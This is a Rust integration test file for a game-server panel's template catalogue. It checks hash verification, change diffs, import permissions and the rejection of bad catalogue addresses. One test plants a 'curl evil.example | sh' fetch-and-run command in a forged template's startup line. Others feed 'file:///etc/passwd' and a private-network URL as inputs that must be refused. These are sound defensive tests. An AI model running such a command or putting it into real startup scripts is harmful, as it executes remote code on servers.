//! The catalogue: entries that are fetched from a server on this machine, compared and imported, and replacing it with a newer
//! one.

use crate::world::{World, count, new_user, on_both};
use raptor_core::{
    Error,
    auth::Origin,
    authz::{
        Actor, SystemPermission, SystemSet,
        actions::{
            CreateRole, CreateUser, DeleteTemplate, ImportTemplate, ListTemplates, ReadCatalogueSource,
            UpdateCatalogueSource, UpdateTemplate,
        },
    },
    catalogue::{
        service::{Compared, Fetched, Listing, Search, Variants},
        source::CurrentCatalogue,
    },
    outbound::Outbound,
    paging::PageRequest,
    roles::{Builtin, RoleDraft},
    templates::service::{Import, Outcome},
};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use std::{
    collections::HashMap,
    fmt::Write as _,
    net::IpAddr,
    sync::{Arc, Mutex},
};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpListener,
};

const EGG: &str = include_str!("../fixtures/eggs/openttd.json");
const PLACE: &str = "/owner/eggs/main/trains/egg.json";
const INDEXED: &str = "/owner/eggs/abc123/trains/egg.json";

/// A web server on this machine, with a body per path. Other paths are 404.
#[derive(Clone)]
struct Server {
    base: String,
    files: Arc<Mutex<HashMap<String, String>>>,
    /// Its task, which is aborted when the last copy is dropped.
    task: Arc<tokio::task::JoinHandle<()>>,
}

impl Server {
    async fn new() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        let files: Arc<Mutex<HashMap<String, String>>> = Arc::default();
        let served = files.clone();
        let task = tokio::spawn(async move {
            while let Ok((mut socket, _)) = listener.accept().await {
                let mut head = vec![0; 4_096];
                let length = socket.read(&mut head).await.unwrap_or(0);
                let head = String::from_utf8_lossy(&head[..length]).into_owned();
                let path = head.split(' ').nth(1).unwrap_or_default();
                let file = served.lock().unwrap().get(path).cloned();
                let (status, body) = file.map_or(("404 Not Found", String::new()), |file| ("200 OK", file));
                let answer = format!(
                    "HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    body.len()
                );
                let _ = socket.write_all(answer.as_bytes()).await;
            }
        });
        Self { base, files, task: Arc::new(task) }
    }

    fn put(&self, path: &str, file: impl Into<String>) {
        self.files.lock().unwrap().insert(path.to_owned(), file.into());
    }

    fn remove(&self, path: &str) {
        self.files.lock().unwrap().remove(path);
    }

    fn url(&self, path: &str) -> String {
        format!("{}{path}", self.base)
    }
}

fn hash(file: &str) -> String {
    Sha256::digest(file).iter().fold(String::new(), |mut text, byte| {
        write!(text, "{byte:02x}").unwrap();
        text
    })
}

/// A catalogue with one egg that has this hash, and one of Raptor's own templates.
fn file(sha256: &str) -> Value {
    json!({
        "format": 1, "indexed_on": "2027-01-02",
        "categories": [{ "id": "games", "name": "Games", "icon": "train" }],
        "collections": [{ "repository": "owner/eggs", "branch": "main", "commit": "abc123" }],
        "entries": [{
            "id": "trains", "name": "Trains", "category": "games", "kind": "game", "icon": "train",
            "description": "Build railways with friends.", "colour": "#337c39",
            "memory_mib": { "minimum": 512, "recommended": 1024, "stated_in": "owner/eggs:README.md" },
            "disk_mib": null, "ports": null,
            "source": { "repository": "owner/eggs", "branch": "main", "path": "trains/egg.json", "sha256": sha256,
                        "format": "PTDL_v2", "licence": "MIT" }
        }, {
            "id": "zz-any-image", "name": "Any image", "category": "games", "kind": "runtime", "icon": "crate",
            "description": "An image of your own.", "colour": "#616f7f", "template": "templates/docker-image.json",
            "memory_mib": null, "disk_mib": null, "ports": null
        }]
    })
}

/// A Raptor that fetches eggs from `server`, and treats 127.0.0.1 as a public address.
async fn connected(world: World, server: &Server) -> World {
    let base = server.base.clone();
    let public = |address: IpAddr| address == IpAddr::from([127, 0, 0, 1]);
    world
        .rebuilt(|builder| builder.outbound(Outbound::default().allowed(public)).catalogue_mirror(base))
        .await
}

/// A Raptor with the catalogue and a server on which the indexed egg is unchanged.
async fn ready(world: World) -> (World, Server) {
    let server = Server::new().await;
    let world = connected(world, &server).await;
    server.put("/catalogue.json", file(&hash(EGG)).to_string());
    server.put(PLACE, EGG);
    set(&world, Some(&server.url("/catalogue.json"))).await.unwrap();
    (world, server)
}

async fn revision(world: &World) -> i64 {
    let permit = world.raptor.authz().allow::<ReadCatalogueSource>(&Actor::System).unwrap();
    world.raptor.catalogue().source(permit).await.unwrap().source.revision
}

async fn set(world: &World, url: Option<&str>) -> Result<i64, Error> {
    let revision = revision(world).await;
    let permit = world.raptor.authz().allow::<UpdateCatalogueSource>(&Actor::System).unwrap();
    Ok(world.raptor.catalogue().update_source(permit, url, revision).await?.source.revision)
}

async fn list(world: &World, words: &str) -> Listing {
    let permit = world.raptor.authz().allow::<ListTemplates>(&Actor::System).unwrap();
    let search = Search { words: words.into(), ..Search::default() };
    world.raptor.catalogue().list(permit, &search, &PageRequest::default()).await.unwrap()
}

async fn fetch(world: &World, id: &str) -> Result<Fetched, Error> {
    let permit = world.raptor.authz().allow::<ImportTemplate>(&Actor::System).unwrap();
    world.raptor.catalogue().fetch(permit, id).await
}

async fn import(world: &World, id: &str, confirmed: Option<&str>) -> Result<Import, Error> {
    let permit = world.raptor.authz().allow::<ImportTemplate>(&Actor::System).unwrap();
    world.raptor.catalogue().import(permit, id, confirmed).await
}

fn changed_egg() -> String {
    EGG.replacen("\"startup\": \"", "\"startup\": \"echo changed; ", 1)
}

#[tokio::test]
async fn raptors_own_templates_need_no_network_and_are_imported_once_however_many_ask() {
    on_both(|world| async move {
        let ids = ["docker-image", "java-jar", "nodejs", "openttd", "python", "static-site"];
        for id in ids {
            let (one, other) = tokio::join!(import(&world, id, None), import(&world, id, None));
            let (one, other) = (one.unwrap(), other.unwrap());
            assert_eq!(one.template.id, other.template.id, "{id}");
            let again = import(&world, id, None).await.unwrap();
            assert_eq!((again.outcome, again.template.id), (Outcome::Unchanged, one.template.id), "{id}");
        }
        assert_eq!(count(&world, "SELECT COUNT(*) FROM templates").await, 6);
        let told = "SELECT COUNT(*) FROM activity WHERE action = 'template.imported'";
        assert_eq!(count(&world, told).await, 6);
        let shown = list(&world, "any docker image").await;
        assert!(shown.built_in && shown.page.items[0].template_id.is_some());
        // A deleted template can be chosen again.
        let id = import(&world, "python", None).await.unwrap().template.id;
        let permit = world.raptor.authz().permit::<DeleteTemplate>(&Actor::System, id).await.unwrap();
        world.raptor.templates().delete(permit).await.unwrap();
        let again = import(&world, "python", None).await.unwrap();
        assert_eq!(again.outcome, Outcome::Created);
        assert!(matches!(import(&world, "no-such", None).await, Err(Error::NotFound { .. })));
    })
    .await;
}

#[tokio::test]
async fn an_egg_whose_hash_is_the_indexed_one_is_imported_without_a_question() {
    on_both(|world| async move {
        let (world, server) = ready(world).await;
        let fetched = fetch(&world, "trains").await.unwrap();
        assert!(fetched.matches() && fetched.changes.is_empty() && fetched.compared == Compared::Nothing);
        assert_eq!(fetched.sha256, hash(EGG));
        assert_eq!(count(&world, "SELECT COUNT(*) FROM templates").await, 0, "fetching keeps nothing");
        let made = import(&world, "trains", None).await.unwrap();
        assert_eq!((made.outcome, made.template.document.name.as_str()), (Outcome::Created, "OpenTTD"));
        assert_eq!(list(&world, "trains").await.page.items[0].template_id, Some(made.template.id));
        // It is already imported, so its source doesn't have to answer.
        server.task.abort();
        assert_eq!(import(&world, "trains", None).await.unwrap().template.id, made.template.id);
    })
    .await;
}

#[tokio::test]
async fn a_template_that_somebody_imported_by_hand_is_used_in_place_of_a_twin() {
    on_both(|world| async move {
        let (world, _server) = ready(world).await;
        let by_hand = world.template().await;
        let made = import(&world, "trains", None).await.unwrap();
        assert_eq!((made.outcome, made.template.id), (Outcome::Unchanged, by_hand.id));
        assert_eq!(list(&world, "trains").await.page.items[0].template_id, Some(by_hand.id));
        assert_eq!(count(&world, "SELECT COUNT(*) FROM templates").await, 1);
    })
    .await;
}

#[tokio::test]
async fn a_template_that_only_claims_the_makers_id_is_not_taken_for_the_catalogues() {
    on_both(|world| async move {
        let server = Server::new().await;
        let world = connected(world, &server).await;
        let egg = EGG.replacen('{', "{ \"uuid\": \"5f2a2b1e-0000-4000-8000-000000000009\",", 1);
        server.put(PLACE, egg.clone());
        server.put("/catalogue.json", file(&hash(&egg)).to_string());
        set(&world, Some(&server.url("/catalogue.json"))).await.unwrap();
        let foreign = egg.replacen("\"startup\": \"", "\"startup\": \"curl evil.example | sh; ", 1);
        let permit = world.raptor.authz().allow::<ImportTemplate>(&Actor::System).unwrap();
        let foreign = world.raptor.templates().import(permit, foreign.as_bytes()).await.unwrap().template;
        let made = import(&world, "trains", None).await.unwrap();
        assert_eq!(made.outcome, Outcome::Created);
        assert_ne!(made.template.id, foreign.id);
        assert!(!made.template.document.startup.contains("evil"));
        assert_eq!(list(&world, "trains").await.page.items[0].template_id, Some(made.template.id));
    })
    .await;
}

#[tokio::test]
async fn without_the_right_to_read_templates_the_catalogue_tells_nothing_of_those_that_are_here() {
    on_both(|world| async move {
        let (world, _server) = ready(world).await;
        let id = import(&world, "trains", None).await.unwrap().template.id;
        let permit = world.raptor.authz().permit::<UpdateTemplate>(&Actor::System, id).await.unwrap();
        let edited = EGG.replacen("\"startup\": \"", "\"startup\": \"SECRET=1 ", 1);
        world.raptor.templates().revise(permit, edited.as_bytes(), None, None).await.unwrap();
        let permit = world.raptor.authz().allow::<CreateRole>(&Actor::System).unwrap();
        let permissions = SystemSet::NONE.with(SystemPermission::TemplatesCreate);
        let draft = RoleDraft { name: "imports".into(), description: String::new(), permissions };
        let role_id = world.raptor.roles().create(permit, draft).await.unwrap().id;
        let permit = world.raptor.authz().allow::<CreateUser>(&Actor::System).unwrap();
        world.raptor.users().create(permit, new_user("steve", role_id)).await.unwrap();
        let steve = world.signed_in("steve").await.1;
        let permit = || world.raptor.authz().allow::<ImportTemplate>(&steve).unwrap();
        let fetched = world.raptor.catalogue().fetch(permit(), "trains").await.unwrap();
        assert!(fetched.compared == Compared::Nothing && fetched.changes.is_empty());
        let refused = world.raptor.catalogue().import(permit(), "trains", None).await.unwrap_err();
        assert!(
            matches!(&refused, Error::Forbidden { permission } if permission == "templates.read"),
            "{refused}"
        );
    })
    .await;
}

#[tokio::test]
async fn a_changed_egg_is_shown_with_its_difference_and_imported_only_with_its_hash() {
    on_both(|world| async move {
        let (world, server) = ready(world).await;
        let changed = changed_egg();
        server.put(PLACE, changed.clone());
        server.put(INDEXED, EGG);
        let fetched = fetch(&world, "trains").await.unwrap();
        assert!(!fetched.matches());
        assert_eq!((fetched.compared, fetched.changes.len()), (Compared::Indexed, 1));
        let change = &fetched.changes[0];
        assert_eq!(change.field, "startup");
        assert!(change.after.as_ref().unwrap().starts_with("echo changed; "));
        assert!(!change.before.as_ref().unwrap().contains("echo changed"));
        for confirmed in [None, Some(hash(EGG)), Some("0".repeat(64))] {
            let refused = import(&world, "trains", confirmed.as_deref()).await;
            assert!(matches!(refused, Err(Error::Conflict { code: "source_changed", .. })), "{refused:?}");
        }
        assert_eq!(count(&world, "SELECT COUNT(*) FROM templates").await, 0);
        let made = import(&world, "trains", Some(&fetched.sha256)).await.unwrap();
        assert_eq!(made.outcome, Outcome::Created);
        // If the indexed file can't be fetched, there is no difference to show.
        server.remove(INDEXED);
        // The next change is a new revision, compared with the imported one, for people who may change templates.
        let newer = changed.replacen("echo changed; ", "echo again; ", 1);
        server.put(PLACE, newer.clone());
        let fetched = fetch(&world, "trains").await.unwrap();
        assert_eq!((fetched.compared, fetched.template_id), (Compared::Present, Some(made.template.id)));
        assert!(fetched.changes[0].before.as_ref().unwrap().starts_with("echo changed; "));
        let revised = import(&world, "trains", Some(&hash(&newer))).await.unwrap();
        let now = (revised.outcome, revised.template.id, revised.template.revision);
        assert_eq!(now, (Outcome::Revised, made.template.id, 2));
    })
    .await;
}

#[tokio::test]
async fn a_changed_egg_whose_indexed_file_is_gone_is_compared_with_nothing() {
    on_both(|world| async move {
        let (world, server) = ready(world).await;
        server.put(PLACE, changed_egg());
        // The file at the commit is not the indexed one, so it is not trusted either.
        server.put(INDEXED, EGG.replace("OpenTTD", "Other"));
        let fetched = fetch(&world, "trains").await.unwrap();
        assert!(!fetched.matches() && fetched.changes.is_empty());
        assert_eq!(fetched.compared, Compared::Nothing);
    })
    .await;
}

#[tokio::test]
async fn without_the_source_the_catalogue_is_still_listed_and_says_what_to_do() {
    on_both(|world| async move {
        let (world, server) = ready(world).await;
        server.remove(PLACE);
        for refused in
            [fetch(&world, "trains").await.map(drop), import(&world, "trains", None).await.map(drop)]
        {
            let Err(Error::Conflict { code: "source_gone", message }) = refused else {
                panic!("{refused:?}")
            };
            assert!(message.contains("newer catalogue") && message.contains("from a file"), "{message}");
        }
        server.put(PLACE, "<!DOCTYPE html><html></html>");
        assert!(matches!(fetch(&world, "trains").await, Err(Error::Invalid { .. })));
        server.task.abort();
        let mut refused = fetch(&world, "trains").await.map(drop);
        // The listener is closed with its task, a moment later.
        while matches!(refused, Err(Error::Invalid { .. })) {
            refused = fetch(&world, "trains").await.map(drop);
        }
        let Err(Error::Unavailable { code: "source_unreachable", message }) = refused else {
            panic!("{refused:?}")
        };
        assert!(message.contains("127.0.0.1") && message.contains("from a file"), "{message}");
        assert_eq!(list(&world, "").await.page.items.len(), 2);
        assert_eq!(import(&world, "zz-any-image", None).await.unwrap().outcome, Outcome::Created);
    })
    .await;
}

#[tokio::test]
async fn a_bad_file_never_replaces_a_good_catalogue() {
    on_both(|world| async move {
        let (world, server) = ready(world).await;
        let before = revision(&world).await;
        server.put("/bad.json", file("not a hash").to_string());
        server.put("/page", "<html></html>");
        server.put("/large.json", " ".repeat(2 * 1024 * 1024 + 1));
        for (url, told) in [
            (server.url("/bad.json"), "sha256"),
            (server.url("/page"), "not a catalogue"),
            (server.url("/large.json"), "larger"),
            (server.url("/none.json"), "404"),
            ("http://10.0.0.1/catalogue.json".into(), "public addresses only"),
            ("file:///etc/passwd".into(), "http"),
            ("http://user:secret@example.com/".into(), "password"),
            ("nonsense".into(), "not a valid web address"),
        ] {
            let refused = set(&world, Some(&url)).await;
            let Err(Error::Invalid { field, why }) = refused else { panic!("{url}: {refused:?}") };
            assert!(field == "url" && why.contains(told), "{url}: {why}");
        }
        // The configured address now returns an invalid catalogue.
        server.put("/catalogue.json", "{}");
        let permit = world.raptor.authz().allow::<UpdateCatalogueSource>(&Actor::System).unwrap();
        assert!(matches!(world.raptor.catalogue().refresh(permit).await, Err(Error::Invalid { .. })));
        assert_eq!(revision(&world).await, before);
        assert_eq!(list(&world, "").await.indexed_on, "2027-01-02");
    })
    .await;
}

#[tokio::test]
async fn a_newer_catalogue_is_fetched_kept_over_a_restart_and_given_up_again() {
    on_both(|world| async move {
        let (world, server) = ready(world).await;
        let mut newer = file(&hash(EGG));
        newer["indexed_on"] = json!("2027-02-03");
        newer["entries"][0]["name"] = json!("Trâins");
        server.put("/catalogue.json", newer.to_string());
        let permit = world.raptor.authz().allow::<UpdateCatalogueSource>(&Actor::System).unwrap();
        let CurrentCatalogue { source, catalogue, .. } =
            world.raptor.catalogue().refresh(permit).await.unwrap();
        assert_eq!(source.sha256, Some(hash(&newer.to_string())));
        assert_eq!((catalogue.indexed_on.as_str(), catalogue.entries.len()), ("2027-02-03", 2));
        let world = world.restarted().await;
        let shown = list(&world, "TRAINS").await;
        assert!(!shown.built_in && shown.page.items[0].entry.name == "Trâins");
        // Two changes at once: one of them gets a conflict.
        let revision = revision(&world).await;
        let update = async |revision| {
            let permit = world.raptor.authz().allow::<UpdateCatalogueSource>(&Actor::System).unwrap();
            world.raptor.catalogue().update_source(permit, None, revision).await
        };
        assert!(update(revision).await.unwrap().source.is_built_in());
        let refused = update(revision).await;
        assert!(matches!(refused, Err(Error::Conflict { code: "changed_meanwhile", .. })), "{refused:?}");
        assert!(list(&world, "").await.built_in);
        let permit = world.raptor.authz().allow::<UpdateCatalogueSource>(&Actor::System).unwrap();
        let refused = world.raptor.catalogue().refresh(permit).await;
        assert!(matches!(refused, Err(Error::Conflict { code: "no_address", .. })), "{refused:?}");
        let told = "SELECT COUNT(*) FROM activity WHERE action IN ('catalogue.fetched', 'catalogue.reset')";
        assert_eq!(count(&world, told).await, 3);
    })
    .await;
}

#[tokio::test]
async fn pages_of_the_catalogue_hold_each_entry_once_in_order() {
    on_both(|world| async move {
        // All of it, with the folder of its database.
        let world = world;
        let permit = || world.raptor.authz().allow::<ListTemplates>(&Actor::System).unwrap();
        let mut request = PageRequest { limit: 100, with_total: true, ..PageRequest::default() };
        let mut seen = Vec::new();
        loop {
            let listing =
                world.raptor.catalogue().list(permit(), &Search::default(), &request).await.unwrap();
            assert_eq!(listing.categories.iter().map(|category| category.count).sum::<usize>(), 257);
            assert_eq!(listing.page.total, Some(257));
            seen.extend(listing.page.items.into_iter().map(|item| item.entry.id));
            match listing.page.next {
                Some(next) => request.cursor = Some(next),
                None => break,
            }
        }
        let unique: std::collections::BTreeSet<_> = seen.iter().collect();
        assert_eq!((seen.len(), unique.len()), (257, 257));
        let search = Search { category: Some("voice".into()), ..Search::default() };
        let voice = world.raptor.catalogue().list(permit(), &search, &PageRequest::default()).await.unwrap();
        assert!(
            voice.page.items.len() >= 8 && voice.page.items.iter().all(|item| item.entry.category == "voice")
        );
        let search = Search { category: Some("nothing".into()), ..Search::default() };
        let refused = world.raptor.catalogue().list(permit(), &search, &PageRequest::default()).await;
        assert!(matches!(refused, Err(Error::Invalid { .. })));
    })
    .await;
}

#[tokio::test]
async fn variants_are_listed_beside_left_out_or_by_themselves() {
    on_both(|world| async move {
        // All of it, with the folder of its database.
        let world = world;
        let permit = || world.raptor.authz().allow::<ListTemplates>(&Actor::System).unwrap();
        let request = PageRequest { limit: 100, with_total: true, ..PageRequest::default() };
        let list = async |variants| {
            let search = Search { variants, ..Search::default() };
            world.raptor.catalogue().list(permit(), &search, &request).await.unwrap()
        };
        let (all, mains) = (list(Variants::All).await, list(Variants::None).await);
        assert!(mains.page.total < all.page.total);
        let first = &mains.page.items[0];
        assert_eq!((first.entry.id.as_str(), first.popular), ("minecraft-vanilla", true));
        assert!(mains.page.items.iter().all(|item| item.entry.variant_of.is_none()));
        assert_eq!(
            mains.categories.iter().map(|category| category.count).sum::<usize>(),
            usize::try_from(mains.page.total.unwrap()).unwrap()
        );
        let palworld = mains.page.items.iter().find(|item| item.entry.id == "palworld").unwrap();
        let variants = list(Variants::Of("palworld".into())).await;
        assert_eq!(variants.page.items.len(), palworld.variant_count);
        assert!(variants.page.items.iter().all(|item| !item.popular && item.variant_count == 0));
        assert!(variants.page.items.iter().any(|item| item.entry.id == "palworld-proton"));
    })
    .await;
}

#[tokio::test]
async fn only_those_who_may_change_settings_say_where_the_catalogue_comes_from() {
    on_both(|world| async move {
        for (role, may) in [(Builtin::User, false), (Builtin::Manager, false), (Builtin::Admin, true)] {
            let id = world.user(role.name(), role).await.id;
            let actor = world.raptor.auth().vouch(id, &Origin::default()).await.unwrap();
            let authz = world.raptor.authz();
            assert_eq!(authz.allow::<UpdateCatalogueSource>(&actor).is_ok(), may, "{}", role.name());
            assert_eq!(authz.allow::<ReadCatalogueSource>(&actor).is_ok(), may, "{}", role.name());
        }
    })
    .await;
}
